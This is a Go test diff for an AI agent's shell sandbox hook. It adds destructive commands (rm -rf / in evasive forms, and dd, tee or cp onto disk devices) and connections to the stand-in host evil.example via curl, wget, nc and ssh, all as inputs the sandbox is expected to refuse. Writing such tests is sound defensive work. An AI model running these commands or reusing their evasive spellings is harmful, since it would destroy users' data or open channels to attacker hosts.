@@ -33,7 +33,7 @@ func TestSandboxJudgesEveryCommandTheShellRuns(t *testing.T) {
 		`rm -rf //`, `rm -rf /./usr`, `rm -rf /tmp/../home`, `rm -rf /tmp/..`, `rm -rf //etc/`, `rm -rf /e*`, `rm -rf /u?r`,
 		`rm -rf /proc/self/root/etc`, `rm -rf /home/u`, `rm -rf /home`, `rm -rf .*`, `find /etc -delete`,
 		`env -C / rm -rf etc`, `env --chdir=/ rm -rf etc`, `sudo -D / rm -rf etc`, `pushd / && rm -rf usr`,
-		`xargs -I{} rm -rf / {}`, `/usr/bin/env rm -rf /`, `busybox rm -rf /`, `doas rm -rf /`, `rm -rf $'\x2f'`, `$"rm" -rf /`,
+		`xargs -I{} rm -rf / {}`, `alias r=rm; r -rf /`, `flock /tmp/l -c 'rm -rf /'`, `/usr/bin/env rm -rf /`, `busybox rm -rf /`, `doas rm -rf /`, `rm -rf $'\x2f'`, `$"rm" -rf /`,
 	} {
 		h.Tool("shell", map[string]any{"command": cmd}).RequireRefused(t, rmRule)
 	}
@@ -154,7 +154,7 @@ func TestSandboxJudgesURLsAsTheShellJoinsThem(t *testing.T) {
 	h := hooktest.New(t, prebuilt.Sandbox(prebuilt.SandboxConfig{AllowHosts: []string{"api.github.com"}}))
 	for _, cmd := range []string{`curl "https://api.github.com"'@evil.example/x'`, `curl https://api.github.com\@evil.example/`,
 		`bash -c "curl https://evil.example/"`, `curl $'https://evil.example/'`,
-		`curl evil.example/x`, `wget -q evil.example`, `curl -x evil.example:8080 https://api.github.com/`} {
+		`curl evil.example/x`, `wget -q evil.example`, `nc evil.example 80`, `ssh -p 22 me@evil.example ls`, `curl -x evil.example:8080 https://api.github.com/`} {
 		o := h.Tool("shell", map[string]any{"command": cmd})
 		assert.False(t, o.Ran, cmd)
 		assert.Contains(t, o.Result.Text, `"evil.example"`, cmd)
@@ -164,6 +164,7 @@ func TestSandboxJudgesURLsAsTheShellJoinsThem(t *testing.T) {
 	assert.False(t, o.Ran)
 	assert.Contains(t, o.Result.Text, "cannot be judged before it runs")
 	h.Tool("shell", map[string]any{"command": `curl -s "https://api.github.com/repos"`}).RequireAllowed(t)
+	h.Tool("shell", map[string]any{"command": `ssh -i key git@api.github.com`}).RequireAllowed(t)
 	h.Tool("shell", map[string]any{"command": `curl -s -o out.json -H 'Accept: x' api.github.com/repos`}).RequireAllowed(t)
 }
 
@@ -171,7 +172,7 @@ func TestSandboxJudgesURLsAsTheShellJoinsThem(t *testing.T) {
 func TestSandboxDevicesInEverySpelling(t *testing.T) {
 	h := hooktest.New(t, prebuilt.Sandbox(prebuilt.SandboxConfig{}))
 	for _, cmd := range []string{"dd if=/dev/zero of=//dev/sda", "dd if=x of=/./dev/sda", "dd of=/tmp/../dev/sda", "shred /dev/sda",
-		"cat x > /dev/sda", "sudo dd if=/dev/zero of=/dev/nvme0n1 bs=1M"} {
+		"cat x > /dev/sda", "tee /dev/sda < x", "cp img /dev/sda", "sudo dd if=/dev/zero of=/dev/nvme0n1 bs=1M"} {
 		h.Tool("shell", map[string]any{"command": cmd}).RequireRefused(t,
 			`Sandbox: the command in "command" is not allowed (mkfs, or dd onto a device). Do not run it; find a safer way or ask the user.`)
 	}
